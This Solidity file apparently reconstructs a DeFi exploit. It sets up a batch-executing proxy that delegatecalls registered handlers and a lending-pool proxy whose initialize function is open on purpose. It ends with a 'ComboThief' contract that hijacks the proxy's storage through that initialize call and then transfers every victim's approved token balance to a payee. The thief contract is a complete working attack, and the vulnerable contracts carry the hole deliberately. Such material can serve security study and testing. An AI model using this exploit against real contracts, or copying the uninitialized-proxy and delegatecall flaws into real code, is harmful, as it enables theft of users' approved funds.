// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";
import {Pool} from "../props/Markets.sol";

contract ComboRegistry {
    address public owner = msg.sender;
    mapping(address => bytes32) public handlers;

    event Registered(address indexed registration, bytes32 info);

    function register(address registration, bytes32 info) external {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        handlers[registration] = info;
        emit Registered(registration, info);
    }

    function isValid(address handler) external view returns (bool) {
        return handlers[handler] != bytes32(0);
    }
}

/// Runs combos: a row of handlers on its own storage, with its users' approvals.
contract ComboProxy {
    ComboRegistry public immutable registry;

    event LogBegin(address indexed handler, bytes4 indexed selector, bytes payload);
    event LogEnd(address indexed handler, bytes4 indexed selector, bytes result);

    constructor(ComboRegistry registry_) {
        registry = registry_;
    }

    receive() external payable {
        require(msg.sender.code.length > 0, "Not allowed from EOA");
    }

    function batchExec(address[] calldata tos, bytes[] calldata datas) external payable {
        require(tos.length == datas.length, "lengths");
        for (uint256 i = 0; i < tos.length; i++) {
            require(registry.isValid(tos[i]), "Invalid handler");
            emit LogBegin(tos[i], bytes4(datas[i][:4]), datas[i]);
            (bool ok, bytes memory out) = tos[i].delegatecall(datas[i]);
            if (!ok) assembly { revert(add(out, 32), mload(out)) }
            emit LogEnd(tos[i], bytes4(datas[i][:4]), out);
        }
    }
}

/// Brings the user's tokens in, and what is left of any token back.
contract HFunds {
    function inject(Token[] calldata tokens, uint256[] calldata amounts) external {
        for (uint256 i = 0; i < tokens.length; i++) tokens[i].transferFrom(msg.sender, address(this), amounts[i]);
    }

    function giveBack(Token[] calldata tokens) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 amount = tokens[i].balanceOf(address(this));
            if (amount > 0) tokens[i].transfer(msg.sender, amount);
        }
    }
}

contract HSwap {
    function sell(Pool pool, Token token, uint256 amount) external returns (uint256) {
        token.approve(address(pool), amount);
        return pool.sell(token, amount, address(this));
    }
}

/// The lending pool of somebody else: a proxy that anyone may initialize who finds it without code, and in whose storage
/// that is looked up depends on who runs it.
contract LendingPoolProxy {
    // keccak256("eip1967.proxy.implementation") - 1
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    event Upgraded(address indexed implementation);

    function initialize(address logic, bytes calldata data) external payable {
        address present;
        assembly { present := sload(SLOT) }
        require(present == address(0), "initialized");
        assembly { sstore(SLOT, logic) }
        emit Upgraded(logic);
        if (data.length > 0) {
            (bool ok,) = logic.delegatecall(data);
            require(ok);
        }
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(SLOT), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

contract LendingPoolLogic {
    mapping(address => mapping(address => uint256)) public supplied;

    event Deposit(address indexed reserve, address user, address indexed onBehalfOf, uint256 amount);

    function deposit(Token token, uint256 amount, address onBehalfOf) external {
        token.transferFrom(msg.sender, address(this), amount);
        supplied[address(token)][onBehalfOf] += amount;
        emit Deposit(address(token), msg.sender, onBehalfOf, amount);
    }
}

contract HLending {
    function deposit(LendingPoolLogic pool, Token token, uint256 amount) external {
        token.approve(address(pool), amount);
        pool.deposit(token, amount, msg.sender);
    }
}

/// Runs as the combo proxy, once that believes it to be the code of the lending pool.
contract ComboThief {
    /// Takes over, and takes what the first victims allowed.
    function begin(ComboProxy combo, address lending, Token token, address[] calldata victims, address payee) external {
        address[] memory tos = new address[](2);
        bytes[] memory datas = new bytes[](2);
        (tos[0], datas[0]) = (lending, abi.encodeCall(LendingPoolProxy.initialize, (address(this), "")));
        (tos[1], datas[1]) = (lending, abi.encodeCall(this.take, (token, victims, payee)));
        combo.batchExec(tos, datas);
    }

    function goOn(ComboProxy combo, address lending, Token token, address[] calldata victims, address payee) external {
        address[] memory tos = new address[](1);
        bytes[] memory datas = new bytes[](1);
        (tos[0], datas[0]) = (lending, abi.encodeCall(this.take, (token, victims, payee)));
        combo.batchExec(tos, datas);
    }

    /// What runs on the proxy's storage.
    function take(Token token, address[] calldata victims, address payee) external {
        for (uint256 i = 0; i < victims.length; i++) {
            uint256 most = token.balanceOf(victims[i]);
            uint256 allowed = token.allowance(victims[i], address(this));
            token.transferFrom(victims[i], payee, most < allowed ? most : allowed);
        }
    }
}
